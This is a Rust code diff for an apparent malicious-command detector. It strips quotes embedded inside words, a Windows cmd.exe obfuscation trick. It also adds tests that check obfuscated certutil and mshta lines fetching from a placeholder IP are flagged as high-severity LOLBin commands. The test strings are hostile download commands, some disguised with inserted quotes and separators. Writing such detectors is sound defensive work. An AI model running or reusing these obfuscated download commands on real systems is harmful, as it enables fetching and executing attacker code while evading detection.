@@ -355,11 +355,18 @@ fn two_texts<'s>(source: &'s str, call: &[Token]) -> Option<(&'s str, &'s str)> 
     Some((from, to))
 }
 
-/// Arguments in lower case with a slash in front of each option, and marks that say nothing taken out.
+/// Arguments in lower case with a slash in front of each option, and marks that say nothing taken out, quotes within
+/// words too.
 fn with_slashes(arguments: &str) -> String {
     let mut out = String::with_capacity(arguments.len().saturating_add(1));
     let mut before = ' ';
-    for c in arguments.chars().filter(|c| !matches!(c, '^' | '`')) {
+    let kept = arguments.chars().filter(|c| !matches!(c, '^' | '`'));
+    let mut kept = kept.peekable();
+    while let Some(c) = kept.next() {
+        let joins = |c: char| c.is_ascii_alphanumeric() || matches!(c, '/' | '-');
+        if c == '"' && joins(before) && kept.peek().is_some_and(char::is_ascii_alphanumeric) {
+            continue;
+        }
         let option =
             matches!(c, '-' | '–' | '—' | '―') && (before.is_whitespace() || before == '"');
         out.extend(if option { '/' } else { c }.to_lowercase());
@@ -414,6 +421,17 @@ mod tests {
                 "s.Run(\"cmd /c powershell iwr http://192.0.2.1/a -o b\")"
             ),
             ["powershell-command critical"]
+        );
+        assert_eq!(
+            found(
+                Kind::Bat,
+                "\"c\"e\"r\"tutil -ur\"lca\"che -f http://192.0.2.1/a b\r\n"
+            ),
+            ["lolbin-command high"]
+        );
+        assert_eq!(
+            found(Kind::Bat, ",;cmd.exe,/c,mshta,http://192.0.2.1/a\r\n"),
+            ["lolbin-command high"]
         );
         assert_eq!(
             found(Kind::Bat, "certutil -urlcache -f http://192.0.2.1/a b\r\n"),
